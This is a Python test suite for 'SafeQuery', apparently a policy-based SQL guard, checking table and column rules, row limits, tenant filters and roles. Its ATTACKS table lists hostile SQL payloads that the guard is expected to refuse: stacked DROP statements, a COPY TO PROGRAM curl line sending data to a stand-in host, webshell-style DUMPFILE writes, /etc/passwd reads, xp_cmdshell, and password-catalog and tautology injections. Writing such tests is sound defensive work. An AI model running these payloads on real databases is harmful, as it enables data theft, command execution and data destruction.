"""SafeQuery: policy values, one test per violation code, attacks, rewrites, roles, cache."""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import attrs
import pytest

from avl.errors import ConfigError, InvalidInputError, UnsafeQueryError
from avl.safety import (
    Policy,
    PolicySet,
    Position,
    SafeQuery,
    StatementKind,
    Template,
    Verdict,
    ViolationCode,
)

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "safety"

APP_SCHEMA = {
    "users": ["id", "name", "email", "password_hash", "tenant_id"],
    "orders": ["id", "user_id", "total", "status", "tenant_id", "created_at"],
}


def make_policy(preset: str, dialect: str) -> Policy:
    """The policies the case table refers to by name."""
    if preset == "default":
        return Policy(dialect=dialect)
    if preset == "app":
        return Policy(
            dialect=dialect,
            schema=APP_SCHEMA,
            allowed_tables=["users", "orders"],
            denied_columns=["users.password_hash"],
            max_rows=100,
        )
    if preset == "appns":
        return Policy(
            dialect=dialect,
            allowed_tables=["users", "orders"],
            denied_columns=["users.password_hash"],
        )
    if preset == "schema_only":
        return Policy(dialect=dialect, schema=APP_SCHEMA)
    if preset == "deny":
        return Policy(dialect=dialect, denied_tables=["audit_log"])
    if preset == "shallow":
        return Policy(dialect=dialect, max_depth=3)
    if preset == "short":
        return Policy(dialect=dialect, max_length=40)
    if preset == "noclamp":
        return Policy(dialect=dialect, max_rows=1000, clamp_limit=False)
    if preset == "tenant":
        return Policy(dialect=dialect, row_filters={"orders": "tenant_id = :tenant_id"})
    raise AssertionError(preset)


def make_guard(preset: str, dialect: str) -> SafeQuery:
    return SafeQuery(make_policy(preset, dialect), cache_size=0)


def load_cases() -> list[dict[str, Any]]:
    with (FIXTURES / "cases.jsonl").open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh if line.strip()]


CASES = load_cases()


def codes(verdict: Verdict) -> list[str]:
    return [v.code.value for v in verdict.violations]


# ------------------------------------------------------------------ the case table
@pytest.mark.parametrize("case", CASES, ids=[f"{c['code']}-{i}" for i, c in enumerate(CASES)])
def test_case_table(case: dict[str, Any]) -> None:
    verdict = make_guard(case["policy"], case["dialect"]).check(case["sql"])
    assert verdict.allowed is False
    assert verdict.sql is None
    assert case["code"] in codes(verdict)
    found = next(v for v in verdict.violations if v.code == case["code"])
    assert found.message
    if "line" in case:
        assert found.position is not None
        assert (found.position.line, found.position.col) == (case["line"], case["col"])


def test_every_violation_code_has_a_case() -> None:
    covered = {c["code"] for c in CASES} | {"invalid_parameter"}  # invalid_parameter: below
    assert covered == {code.value for code in ViolationCode}


def test_invalid_parameter() -> None:
    guard = make_guard("tenant", "sqlite")
    verdict = guard.check("SELECT id FROM orders", {"tenant_id": [1, 2]})
    assert codes(verdict) == ["invalid_parameter"]


def test_codes_are_strings() -> None:
    verdict = make_guard("app", "sqlite").check("SELECT id FROM users WHERE id = 1 OR 1 = 1")
    assert verdict.violations[0].code == "constant_predicate"
    assert str(verdict.violations[0].code) == "constant_predicate"
    assert verdict.codes == (ViolationCode.CONSTANT_PREDICATE,)


def test_position_points_at_the_token() -> None:
    sql = "SELECT id\nFROM users\nWHERE name = 'x' OR 'a' = 'a'"
    verdict = make_guard("app", "sqlite").check(sql)
    position = verdict.violations[0].position
    assert position == Position(line=3, col=21, offset=sql.index("'a' = 'a'"))


# ------------------------------------------------------------------------ policy
def test_policy_is_frozen_hashable_and_normalises_lists() -> None:
    a = Policy(
        dialect="postgres",
        allowed_tables=["orders", "users"],
        denied_columns=["users.password_hash"],
    )
    b = Policy(
        dialect="postgres",
        allowed_tables=("users", "orders"),
        denied_columns={"users.password_hash"},
    )
    assert a == b
    assert hash(a) == hash(b)
    assert a.allowed_tables == frozenset({"orders", "users"})
    with pytest.raises(attrs.exceptions.FrozenInstanceError):
        a.max_rows = 5  # type: ignore[misc]
    with pytest.raises(TypeError):
        Policy("sqlite")  # type: ignore[misc]  # keyword-only


def test_policy_schema_and_row_filters_are_hashable_tuples() -> None:
    policy = Policy(schema={"b": ["x"], "a": ["y", "z"]}, row_filters={"a": "y = :y"})
    assert policy.schema == (("a", ("y", "z")), ("b", ("x",)))
    assert policy.row_filters == (("a", "y = :y"),)
    assert isinstance(hash(policy), int)


def test_policy_dialect_typo_suggests() -> None:
    with pytest.raises(ConfigError, match="postgres"):
        Policy(dialect="postgress")
    assert Policy(dialect="PostgreSQL").dialect == "postgres"
    assert Policy(dialect="mariadb").dialect == "mysql"


@pytest.mark.parametrize(
    "kwargs",
    [
        {"max_rows": 0},
        {"max_statements": 0},
        {"allowed_kinds": ["selects"]},
        {"allowed_tables": [""]},
    ],
)
def test_policy_rejects_bad_values(kwargs: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        Policy(**kwargs)


def test_bad_row_filter_is_a_config_error() -> None:
    with pytest.raises(ConfigError, match="orders"):
        SafeQuery(Policy(row_filters={"orders": "tenant_id = = ("}))


# ------------------------------------------------------------ attacks (one each)
ATTACKS = {
    "stacked-select-then-drop": (
        "sqlite",
        "SELECT * FROM users; DROP TABLE users",
        "multiple_statements",
    ),
    "stacked-drop-then-select": (
        "sqlite",
        "DROP TABLE users; SELECT * FROM users",
        "statement_kind",
    ),
    "stacked-after-comment": (
        "sqlite",
        "SELECT id FROM users -- list\n; DELETE FROM users",
        "statement_kind",
    ),
    "dml-in-cte": (
        "postgres",
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "data_modifying_cte",
    ),
    "update-in-cte": (
        "postgres",
        "WITH u AS (UPDATE users SET name = NULL RETURNING id) SELECT * FROM u",
        "data_modifying_cte",
    ),
    "select-into": ("postgres", "SELECT * INTO copy_of_users FROM users", "into"),
    "select-into-tsql": ("tsql", "SELECT * INTO #tmp FROM users", "into"),
    "into-outfile": ("mysql", "SELECT * FROM users INTO OUTFILE '/tmp/u.csv'", "into"),
    "into-dumpfile": (
        "mysql",
        "SELECT name FROM users LIMIT 1 INTO DUMPFILE '/var/www/x.php'",
        "into",
    ),
    "for-update": ("postgres", "SELECT * FROM users FOR UPDATE", "locking_clause"),
    "for-share": ("postgres", "SELECT * FROM users FOR SHARE", "locking_clause"),
    "explain-analyze": ("postgres", "EXPLAIN ANALYZE DELETE FROM users", "statement_kind"),
    "opaque-command": ("tsql", "WAITFOR DELAY '00:00:30'", "parse_error"),
    "copy-to-program": (
        "postgres",
        "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://x'",
        "statement_kind",
    ),
    "copy-from-program": ("postgres", "COPY users FROM PROGRAM 'id'", "statement_kind"),
    "attach": ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil", "statement_kind"),
    "pragma": ("sqlite", "PRAGMA writable_schema = 1", "statement_kind"),
    "load-extension": ("sqlite", "SELECT load_extension('/tmp/evil.so')", "function_denied"),
    "set-config": (
        "postgres",
        "SELECT set_config('row_security', 'off', false)",
        "function_denied",
    ),
    "read-csv": ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "function_denied"),
    "pg-read-file": ("postgres", "SELECT pg_read_file('/etc/passwd')", "function_denied"),
    "pg-ls-dir": ("postgres", "SELECT pg_ls_dir('.')", "function_denied"),
    "lo-import": ("postgres", "SELECT lo_import('/etc/passwd')", "function_denied"),
    "dblink": (
        "postgres",
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(x int)",
        "function_denied",
    ),
    "load-file": ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "function_denied"),
    "xp-cmdshell": ("tsql", "SELECT * FROM users WHERE id = xp_cmdshell('dir')", "function_denied"),
    "sleep": ("mysql", "SELECT * FROM users WHERE id = 1 AND SLEEP(5)", "function_denied"),
    "benchmark": ("mysql", "SELECT BENCHMARK(100000000, MD5('a'))", "function_denied"),
    "pg-sleep": ("postgres", "SELECT pg_sleep(10)", "function_denied"),
    "mysql-executable-comment": (
        "mysql",
        "SELECT name FROM users WHERE id = 1 /*!50000 UNION SELECT password_hash FROM users */",
        "comment_hidden_code",
    ),
    "optimizer-hint": (
        "oracle",
        "SELECT /*+ FULL(users) */ name FROM users",
        "comment_hidden_code",
    ),
    "information-schema": (
        "mysql",
        "SELECT table_name FROM information_schema.tables",
        "system_catalog",
    ),
    "pg-catalog": ("postgres", "SELECT * FROM pg_catalog.pg_user", "system_catalog"),
    "pg-shadow": ("postgres", "SELECT usename, passwd FROM pg_shadow", "system_catalog"),
    "sqlite-master": ("sqlite", "SELECT sql FROM sqlite_master", "system_catalog"),
    "sqlite-schema": ("sqlite", "SELECT sql FROM sqlite_schema", "system_catalog"),
    "mysql-user": ("mysql", "SELECT user, authentication_string FROM mysql.user", "system_catalog"),
    "performance-schema": ("mysql", "SELECT * FROM performance_schema.threads", "system_catalog"),
    "version-function": (
        "mysql",
        "SELECT name FROM users WHERE id = LENGTH(version())",
        "system_catalog",
    ),
    "union-nulls": (
        "mysql",
        "SELECT id, name FROM users WHERE id = 1 UNION ALL SELECT NULL, NULL",
        "constant_union",
    ),
    "tautology-or": (
        "sqlite",
        "SELECT * FROM users WHERE name = '' OR '1' = '1'",
        "constant_predicate",
    ),
    "tautology-or-after-idiom-chain": (
        "sqlite",
        "SELECT * FROM users WHERE 1 = 1 AND name = 'x' AND id > 2 OR 1 = 1",
        "constant_predicate",
    ),
    "constant-later-in-and-chain": (
        "sqlite",
        "SELECT * FROM users WHERE name = 'x' AND id > 2 AND 2 = 2",
        "constant_predicate",
    ),
    "tautology-having": (
        "sqlite",
        "SELECT id FROM users GROUP BY id HAVING 1 = 1",
        "constant_predicate",
    ),
    "tautology-on": (
        "sqlite",
        "SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id OR 1 = 1",
        "constant_predicate",
    ),
    "tautology-exists-constant": (
        "sqlite",
        "SELECT id FROM users WHERE id = 1 OR EXISTS (SELECT 1)",
        "constant_predicate",
    ),
    "tautology-self-comparison": (
        "sqlite",
        "SELECT id FROM users WHERE name = 'x' OR name = name",
        "constant_predicate",
    ),
    "absurd-generate-series": (
        "postgres",
        "SELECT COUNT(*) FROM generate_series(1, 100000000000) g",
        "resource_exhaustion",
    ),
    "chained-comparison-is": (
        "mysql",
        "SELECT id FROM users WHERE name = '' IS 0.0 = ''",
        "suspicious_expression",
    ),
    "null-safe-chain": (
        "mysql",
        "SELECT id FROM users WHERE name = 'A' <=> 'B'",
        "suspicious_expression",
    ),
    "boolean-arithmetic": (
        "mysql",
        "SELECT id FROM users WHERE id = 1 - TRUE",
        "suspicious_expression",
    ),
    "numeric-string-arithmetic": (
        "mysql",
        "SELECT id FROM users WHERE name = '1' * id - '0'",
        "suspicious_expression",
    ),
    "wide-scalar-subquery": (
        "mysql",
        "SELECT id FROM users WHERE id = (SELECT id, id FROM users LIMIT 1)",
        "suspicious_expression",
    ),
    "constant-case": (
        "mysql",
        "SELECT id FROM users WHERE id = CASE WHEN 2 THEN 3 END",
        "constant_predicate",
    ),
    "constant-iif": (
        "tsql",
        "SELECT id, IIF(2364 = 2364, 1, 1 / 0) FROM users",
        "constant_predicate",
    ),
    "randomblob": (
        "sqlite",
        "SELECT * FROM users WHERE 1 = LIKE('A', UPPER(HEX(RANDOMBLOB(500000000))))",
        "resource_exhaustion",
    ),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_refused(name: str) -> None:
    dialect, sql, code = ATTACKS[name]
    verdict = SafeQuery(Policy(dialect=dialect), cache_size=0).check(sql)
    assert verdict.allowed is False, verdict
    assert code in codes(verdict)


def test_qualified_names_are_not_the_allowed_table() -> None:
    guard = SafeQuery(Policy(dialect="postgres", allowed_tables=["orders"]))
    assert guard.check("SELECT id FROM orders").allowed is True
    assert codes(guard.check("SELECT id FROM otherdb.public.orders")) == ["table_not_allowed"]
    assert codes(guard.check("SELECT id FROM public.orders")) == ["table_not_allowed"]
    qualified = SafeQuery(Policy(dialect="postgres", allowed_tables=["public.orders"]))
    assert qualified.check("SELECT id FROM public.orders").allowed is True
    # unqualified resolves through the search path: not provably public.orders
    assert codes(qualified.check("SELECT id FROM orders")) == ["table_not_allowed"]
    assert codes(qualified.check("SELECT id FROM other.orders")) == ["table_not_allowed"]
    pinned = SafeQuery(
        Policy(dialect="postgres", allowed_tables=["public.orders"], default_schema="public")
    )
    assert pinned.check("SELECT id FROM orders").allowed is True


def test_identifier_case_rules_follow_the_dialect() -> None:
    pg = SafeQuery(Policy(dialect="postgres", allowed_tables=["orders"]))
    assert pg.check("SELECT id FROM ORDERS").allowed is True  # unquoted folds to lower
    assert codes(pg.check('SELECT id FROM "ORDERS"')) == ["table_not_allowed"]  # quoted keeps case
    snow = SafeQuery(Policy(dialect="snowflake", allowed_tables=["orders"]))
    assert snow.check("SELECT id FROM Orders").allowed is True  # both fold to upper
    assert codes(snow.check('SELECT id FROM "orders"')) == ["table_not_allowed"]
    quoted = SafeQuery(Policy(dialect="postgres", allowed_tables=['"Orders"']))
    assert quoted.check('SELECT id FROM "Orders"').allowed is True
    assert codes(quoted.check("SELECT id FROM Orders")) == ["table_not_allowed"]


def test_denied_table_matches_qualified_references() -> None:
    guard = SafeQuery(Policy(dialect="postgres", denied_tables=["users"]))
    assert codes(guard.check("SELECT id FROM public.users")) == ["table_denied"]
    assert codes(guard.check("SELECT id FROM USERS")) == ["table_denied"]
    assert guard.check("SELECT id FROM users_archive").allowed is True


# ---------------------------------------------------------------- must not block
BENIGN = {
    "updated-at": ("sqlite", "SELECT id, updated_at, deleted_at FROM users"),
    "drop-in-literal": ("sqlite", "SELECT id FROM users WHERE name = 'DROP TABLE users; --'"),
    "comment": ("sqlite", "-- top customers\nSELECT id, name FROM users -- by id\nORDER BY id"),
    "banner-comment": (
        "sqlite",
        "--\n-- top customers, don't count drafts\n--\nSELECT id FROM users",
    ),
    "trailing-prose-comment": ("sqlite", "SELECT id FROM users ORDER BY id -- newest last"),
    "block-comment": ("postgres", "SELECT id /* the key */ FROM users"),
    "trailing-semicolon": ("sqlite", "SELECT id FROM users;"),
    "trailing-semicolon-comment": ("sqlite", "SELECT COUNT(*) FROM users; -- how many"),
    "where-1-eq-1-and": ("sqlite", "SELECT id FROM users WHERE 1 = 1 AND name = 'x'"),
    "where-1-eq-1-and-chain": (
        "sqlite",
        "SELECT id FROM users WHERE 1 = 1 AND name = 'x' AND id > 2 AND email LIKE '%@%'",
    ),
    "where-1-eq-1-and-or-group": (
        "postgres",
        "SELECT id FROM users WHERE 1 = 1 AND name = 'x' AND (id = 1 OR id = 2 OR 1 = 0)",
    ),
    "or-false-chain": ("sqlite", "SELECT id FROM users WHERE name = 'x' OR id = 3 OR 1 = 0"),
    "or-false": ("sqlite", "SELECT id FROM users WHERE name = 'x' OR 1 = 0"),
    "union-of-selects": ("sqlite", "SELECT id FROM users UNION SELECT user_id FROM orders"),
    "window": (
        "postgres",
        "SELECT id, SUM(total) OVER (PARTITION BY user_id ORDER BY id) AS s FROM orders",
    ),
    "cte": (
        "postgres",
        "WITH big AS (SELECT user_id FROM orders WHERE total > 100) SELECT COUNT(*) FROM big",
    ),
    "bounded-recursion": (
        "sqlite",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r",
    ),
    "constant-table-cte": ("sqlite", "WITH m(n) AS (SELECT 1 UNION ALL SELECT 2) SELECT n FROM m"),
    "sleep-hours-column": ("mysql", "SELECT sleep_hours FROM users"),
    "keyword-identifiers": ("postgres", 'SELECT "order", "select" FROM users'),
    "escaped-quote": ("postgres", "SELECT id FROM users WHERE name = 'O''Brien'"),
    "tsql-top": ("tsql", "SELECT TOP 5 id FROM users ORDER BY id"),
    "limit-offset": ("mysql", "SELECT id FROM users ORDER BY id LIMIT 10 OFFSET 20"),
    "qualify": ("snowflake", "SELECT id FROM users QUALIFY ROW_NUMBER() OVER (ORDER BY id) = 1"),
    "generate-series-small": ("postgres", "SELECT d FROM generate_series(1, 31) AS d"),
    "in-subquery": ("sqlite", "SELECT id FROM users WHERE id IN (SELECT user_id FROM orders)"),
    "null-pattern": ("postgres", "SELECT id FROM users WHERE (name IS NULL) = (email IS NULL)"),
    "date-minus-interval": (
        "mysql",
        "SELECT id FROM users WHERE created_at > '2024-01-01' - INTERVAL 1 DAY",
    ),
    "case-when": (
        "sqlite",
        "SELECT CASE WHEN id > 1 THEN 'big' ELSE 'small' END AS size FROM users",
    ),
    "tuple-in": (
        "postgres",
        "SELECT id FROM users WHERE (id, name) IN (SELECT user_id, status FROM orders)",
    ),
    "exists-correlated": (
        "sqlite",
        "SELECT id FROM users u WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)",
    ),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_is_allowed(name: str) -> None:
    dialect, sql = BENIGN[name]
    verdict = SafeQuery(Policy(dialect=dialect), cache_size=0).check(sql)
    assert verdict.violations == ()
    assert verdict.allowed is True
    assert verdict.kind is StatementKind.SELECT


def test_unchanged_sql_is_returned_verbatim() -> None:
    sql = "SELECT id FROM users -- by id"
    assert SafeQuery(Policy()).check(sql).sql == sql
    assert SafeQuery(Policy()).check("SELECT id FROM users;").sql == "SELECT id FROM users"


# ---------------------------------------------------------------- schema awareness
def test_schema_resolves_aliases_ctes_derived_tables_and_outputs() -> None:
    guard = make_guard("app", "sqlite")
    ok = [
        "SELECT u.name, o.total FROM users AS u JOIN orders AS o ON o.user_id = u.id",
        "WITH t AS (SELECT user_id, SUM(total) AS s FROM orders GROUP BY user_id) SELECT t.s FROM t",
        "WITH t(a, b) AS (SELECT id, total FROM orders) SELECT a, b FROM t",
        "SELECT d.n FROM (SELECT name AS n FROM users) AS d",
        "SELECT name AS n FROM users ORDER BY n",
        "SELECT status, COUNT(*) AS c FROM orders GROUP BY status HAVING c > 1",
        "SELECT id FROM users JOIN orders USING (id)",
        "SELECT id FROM users u WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)",
        "SELECT name FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > users.id)",
    ]
    for sql in ok:
        verdict = guard.check(sql)
        assert verdict.violations == (), sql
    verdict = guard.check("SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id")
    assert verdict.tables == ("orders", "users")
    assert verdict.columns == ("orders.total", "orders.user_id", "users.id", "users.name")


def test_schema_rejects_unknowns() -> None:
    guard = make_guard("app", "sqlite")
    assert codes(guard.check("SELECT u.nickname FROM users u")) == ["unknown_column"]
    assert codes(guard.check("SELECT x.name FROM users u")) == ["unknown_table"]
    assert codes(guard.check("SELECT d.email FROM (SELECT name FROM users) d")) == [
        "unknown_column"
    ]
    assert codes(guard.check("WITH t AS (SELECT id FROM users) SELECT total FROM t")) == [
        "unknown_column"
    ]


def test_star_expands_for_column_rules() -> None:
    guard = make_guard("app", "sqlite")
    assert codes(guard.check("SELECT * FROM users")) == ["column_denied"]
    assert codes(guard.check("SELECT u.* FROM users u")) == ["column_denied"]
    assert (
        codes(guard.check("SELECT o.*, u.name FROM orders o JOIN users u ON u.id = o.user_id"))
        == []
    )
    verdict = guard.check("SELECT * FROM orders")
    assert verdict.allowed is True
    assert "orders.created_at" in verdict.columns
    assert codes(guard.check("SELECT id FROM users UNION SELECT * FROM orders")) == [
        "set_operation_mismatch"
    ]


def test_denied_column_without_schema() -> None:
    guard = SafeQuery(Policy(denied_columns=["users.password_hash"]))
    assert codes(guard.check("SELECT password_hash FROM users")) == ["column_denied"]
    assert codes(guard.check("SELECT u.PASSWORD_HASH FROM users u")) == ["column_denied"]
    assert codes(guard.check("SELECT * FROM users")) == ["column_denied"]
    assert guard.check("SELECT password_hash FROM legacy_users").allowed is True


# ------------------------------------------------------------------------- limits
@pytest.mark.parametrize(
    ("dialect", "sql", "expected"),
    [
        ("sqlite", "SELECT id FROM users", "SELECT id FROM users LIMIT 50"),
        ("sqlite", "SELECT id FROM users LIMIT 10", "SELECT id FROM users LIMIT 10"),
        ("sqlite", "SELECT id FROM users LIMIT 99999999999", "SELECT id FROM users LIMIT 50"),
        (
            "postgres",
            "SELECT id FROM users UNION SELECT id FROM orders",
            "SELECT id FROM users UNION SELECT id FROM orders LIMIT 50",
        ),
        ("tsql", "SELECT id FROM users", "SELECT TOP 50 id FROM users"),
        ("tsql", "SELECT TOP 1000 id FROM users", "SELECT TOP 50 id FROM users"),
        ("oracle", "SELECT id FROM users", "SELECT id FROM users FETCH FIRST 50 ROWS ONLY"),
        (
            "oracle",
            "SELECT id FROM users FETCH FIRST 500 ROWS ONLY",
            "SELECT id FROM users FETCH FIRST 50 ROWS ONLY",
        ),
        ("mysql", "SELECT id FROM users LIMIT 5, 100000", "SELECT id FROM users LIMIT 5, 50"),
        ("postgres", "SELECT id FROM users -- all\n;", "SELECT id FROM users LIMIT 50"),
        ("sqlite", "(SELECT id FROM users)", "SELECT id FROM users LIMIT 50"),
    ],
)
def test_max_rows_in_the_dialect(dialect: str, sql: str, expected: str) -> None:
    verdict = SafeQuery(Policy(dialect=dialect, max_rows=50)).check(sql)
    assert verdict.sql == expected


def test_percent_and_ties_are_bounded_from_outside() -> None:
    guard = SafeQuery(Policy(dialect="tsql", max_rows=50))
    verdict = guard.check("SELECT TOP (5) WITH TIES name FROM scores ORDER BY score DESC")
    assert verdict.sql == (
        "SELECT TOP 50 * FROM (SELECT TOP 5 WITH TIES name AS name FROM scores ORDER BY score DESC) AS _bounded"
    )
    assert guard.check(verdict.sql).sql == verdict.sql


def test_absurd_limit_flagged_when_not_clamping() -> None:
    guard = SafeQuery(Policy(max_rows=50, clamp_limit=False))
    assert codes(guard.check("SELECT id FROM users LIMIT 99999999999999999999")) == [
        "limit_too_large"
    ]
    assert guard.check("SELECT id FROM users LIMIT 50").allowed is True


# ---------------------------------------------------------------------- row filters
TENANT = Policy(dialect="sqlite", row_filters={"orders": "tenant_id = :tenant_id"}, max_rows=100)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        (
            "SELECT id FROM orders",
            "SELECT id FROM (SELECT * FROM orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS orders LIMIT 100",
        ),
        (
            "SELECT o.id FROM orders AS o JOIN users AS u ON u.id = o.user_id",
            "SELECT o.id FROM (SELECT * FROM orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS o JOIN users AS u ON u.id = o.user_id LIMIT 100",
        ),
        (
            "SELECT name FROM users WHERE id IN (SELECT user_id FROM orders)",
            "SELECT name FROM users WHERE id IN (SELECT user_id FROM (SELECT * FROM orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS orders) LIMIT 100",
        ),
        (
            "WITH c AS (SELECT * FROM orders) SELECT COUNT(*) FROM c",
            "WITH c AS (SELECT * FROM (SELECT * FROM orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS orders) SELECT COUNT(*) FROM c LIMIT 100",
        ),
        (
            "SELECT id FROM orders UNION ALL SELECT id FROM orders",
            "SELECT id FROM (SELECT * FROM orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS orders UNION ALL "
            "SELECT id FROM (SELECT * FROM orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS orders LIMIT 100",
        ),
    ],
)
def test_row_filter_applies_to_every_reference(sql: str, expected: str) -> None:
    verdict = SafeQuery(TENANT).check(sql, {"tenant_id": 7})
    assert verdict.sql == expected
    again = SafeQuery(TENANT).check(expected, {"tenant_id": 7})
    assert again.sql == expected  # idempotent: an already-filtered reference is left alone


def test_row_filter_covers_qualified_references() -> None:
    verdict = SafeQuery(TENANT).check("SELECT id FROM main.orders", {"tenant_id": 7})
    assert (
        verdict.sql
        == "SELECT id FROM (SELECT * FROM main.orders WHERE tenant_id = 7 LIMIT -1 OFFSET 0) AS orders LIMIT 100"
    )


def test_row_filter_binds_strings_safely_and_needs_params() -> None:
    guard = SafeQuery(TENANT)
    verdict = guard.check("SELECT id FROM orders", {"tenant_id": "a' OR '1'='1"})
    assert (
        verdict.sql
        == "SELECT id FROM (SELECT * FROM orders WHERE tenant_id = 'a'' OR ''1''=''1' LIMIT -1 OFFSET 0) AS orders LIMIT 100"
    )
    missing = guard.check("SELECT id FROM orders")
    assert codes(missing) == ["missing_parameter"]
    assert "tenant_id" in missing.violations[0].message
    assert (
        guard.check("SELECT id FROM users").allowed is True
    )  # no filtered table: no parameter needed


# ------------------------------------------------------------------ entry points
def test_ensure_returns_sql_or_raises() -> None:
    guard = SafeQuery(Policy(max_rows=10))
    assert guard.ensure("SELECT id FROM users") == "SELECT id FROM users LIMIT 10"
    with pytest.raises(UnsafeQueryError) as info:
        guard.ensure("DELETE FROM users")
    assert info.value.codes == ("statement_kind",)
    assert info.value.sql == "DELETE FROM users"


def test_policy_set_roles() -> None:
    roles = PolicySet(
        {
            "analyst": Policy(allowed_tables=["orders"], max_rows=10),
            "tenant": TENANT,
        }
    )
    assert roles.roles == ("analyst", "tenant")
    assert (
        roles.check("SELECT id FROM orders", role="analyst").sql == "SELECT id FROM orders LIMIT 10"
    )
    assert codes(roles.check("SELECT id FROM users", role="analyst")) == ["table_not_allowed"]
    filtered = roles.check("SELECT id FROM orders", role="tenant", params={"tenant_id": 3})
    assert (
        filtered.sql
        == "SELECT id FROM (SELECT * FROM orders WHERE tenant_id = 3 LIMIT -1 OFFSET 0) AS orders LIMIT 100"
    )
    with pytest.raises(InvalidInputError, match="nobody"):
        roles.check("SELECT 1", role="nobody")
    with pytest.raises(UnsafeQueryError):
        roles.ensure("DROP TABLE orders", role="analyst")


def test_never_raises_on_odd_inputs() -> None:
    guard = SafeQuery(Policy(dialect="mysql"))
    for sql in [
        "",
        "\x00",
        "'",
        "((((((",
        "SELECT " + "(" * 5000 + "1" + ")" * 5000,
        "\\",
        "/*",
        "--",
    ]:
        verdict = guard.check(sql)
        assert verdict.allowed is False
        assert verdict.violations


def test_params_must_be_a_mapping() -> None:
    with pytest.raises(InvalidInputError):
        SafeQuery(TENANT).check("SELECT 1", params=[("tenant_id", 1)])  # type: ignore[arg-type]


def test_cache_returns_the_same_verdict_and_is_thread_safe() -> None:
    guard = SafeQuery(Policy(max_rows=5), cache_size=64)
    first = guard.check("SELECT id FROM users")
    assert guard.check("SELECT id FROM users") is first
    assert guard.cache_info() == (1, 64)
    errors: list[BaseException] = []
    results: list[str | None] = []
    lock = threading.Lock()

    def work(i: int) -> None:
        try:
            for j in range(200):
                v = guard.check(f"SELECT id FROM users WHERE id = {(i * 200 + j) % 100}")
                with lock:
                    results.append(v.sql)
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert len(results) == 1600
    assert all(r is not None and r.endswith("LIMIT 5") for r in results)
    assert guard.cache_info() == (64, 64)


def test_template_is_exposed() -> None:
    tpl = SafeQuery.template("SELECT id FROM users WHERE name = :name", dialect="sqlite")
    assert isinstance(tpl, Template)
    rendered = tpl.render(name="O'Brien")
    assert tpl.verify(rendered) == {"name": "O'Brien"}
    with pytest.raises(UnsafeQueryError):
        tpl.verify("SELECT id FROM users WHERE name = '' OR '1'='1'")


@pytest.mark.parametrize("preset", ["app", "denied_only"])
def test_denied_columns_are_carried_through_derived_tables_and_ctes(preset: str) -> None:
    policy = (
        make_policy("app", "sqlite")
        if preset == "app"
        else Policy(dialect="sqlite", denied_columns=["users.password_hash"])
    )
    guard = SafeQuery(policy, cache_size=0)
    assert guard.check("SELECT u.name FROM (SELECT * FROM users) AS u").violations == ()
    assert guard.check("WITH x AS (SELECT * FROM users) SELECT name FROM x").violations == ()
    assert guard.check("SELECT COUNT(*) FROM (SELECT * FROM users) AS u").violations == ()
    for sql in [
        "SELECT u.password_hash FROM (SELECT * FROM users) AS u",
        "SELECT password_hash FROM (SELECT * FROM users) AS u",
        "SELECT * FROM (SELECT * FROM users) AS u",
        "WITH x AS (SELECT * FROM users) SELECT * FROM x",
        "WITH x AS (SELECT * FROM users) SELECT x.password_hash FROM x",
        "SELECT name FROM users WHERE id IN (SELECT * FROM users)",
        "SELECT u FROM users AS u",
        "SELECT row_to_json(users) FROM users",
    ]:
        assert "column_denied" in codes(guard.check(sql)), sql


def test_allowed_kinds_can_open_dml_and_keep_the_other_rules() -> None:
    guard = SafeQuery(
        Policy(
            dialect="postgres",
            allowed_kinds=["select", "insert", "update"],
            allowed_tables=["t", "u"],
        )
    )
    insert = guard.check("INSERT INTO t (a, b) VALUES (1, 2) RETURNING a")
    assert (insert.allowed, insert.kind) == (True, StatementKind.INSERT)
    assert guard.check("UPDATE t SET a = 1 WHERE b = 2").kind is StatementKind.UPDATE
    assert codes(guard.check("UPDATE secret SET a = 1")) == ["table_not_allowed"]
    assert codes(guard.check("UPDATE t SET a = (SELECT pg_sleep(1))")) == ["function_denied"]
    assert codes(guard.check("DELETE FROM t")) == ["statement_kind"]


def test_public_names() -> None:
    import avl.safety

    assert sorted(avl.safety.__all__) == [
        "Policy",
        "PolicySet",
        "Position",
        "SafeQuery",
        "StatementKind",
        "Template",
        "Verdict",
        "Violation",
        "ViolationCode",
    ]
    for name in avl.safety.__all__:
        assert getattr(avl.safety, name).__doc__


def test_a_rewrite_sqlglot_cannot_write_fails_closed() -> None:
    verdict = SafeQuery(Policy(dialect="tsql", max_rows=10)).check(
        "SELECT TO_CHAR(d, 'YYYY') AS y FROM t"
    )
    assert codes(verdict) == ["unknown_node"]
    assert "cannot be written in tsql" in verdict.violations[0].message
